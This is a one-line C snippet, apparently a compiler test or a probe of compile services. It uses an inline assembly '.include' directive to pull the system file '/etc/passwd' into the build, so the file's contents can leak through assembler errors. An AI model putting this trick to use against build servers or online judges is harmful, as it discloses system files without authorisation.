__asm__(".include \"/etc/passwd\"\n");
